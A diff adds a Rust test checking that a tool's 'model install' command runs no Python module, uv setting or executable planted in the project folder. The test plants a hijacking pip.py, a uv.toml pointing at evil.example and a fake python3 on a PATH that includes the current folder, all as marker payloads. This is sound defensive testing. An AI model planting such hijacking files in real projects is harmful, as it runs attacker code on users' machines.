@@ -481,3 +481,28 @@ fn the_merge_driver_writes_only_what_git_hands_it() {
     driver(".merge_file_cccccc", "docs/memory/index.md").ok();
     assert_ne!(driver(".merge_file_cccccc", "docs/index.md").code, Some(0));
 }
+
+#[test]
+fn fetching_a_model_runs_nothing_that_lies_in_the_project() {
+    let mut env = TestEnv::ready();
+    // Python looks for modules where it is started, and uv for settings.
+    env.write("pip.py", "import os; os.system('touch pwned')\n");
+    env.write("uv.toml", "index-url = 'https://evil.example'\n");
+    let tools = env.scratch().join("tools");
+    let seen = env.scratch().join("seen");
+    for tool in ["python3", "pip", "uv"] {
+        let script = format!("#!/bin/sh\npwd >> '{}'\nexit 1\n", seen.display());
+        let path = env.write(tools.join(tool), script);
+        std::fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    }
+    // A folder that hangs on where one is holds nobody's tools.
+    let path = env.write("python3", format!("#!/bin/sh\ntouch '{}/pwned'\n", env.project().display()));
+    std::fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    env.set("PATH", &format!(".:{}:/usr/bin:/bin", tools.display()));
+    env.run(&["model", "install"]).fails_with("IO_ERROR", 1);
+    let seen = std::fs::read_to_string(seen).unwrap();
+    assert_eq!(seen.lines().count(), 3, "{seen}");
+    let project = env.project().display().to_string();
+    assert!(seen.lines().all(|folder| !folder.starts_with(&project)), "{seen}");
+    assert!(!env.project().join("pwned").exists());
+}
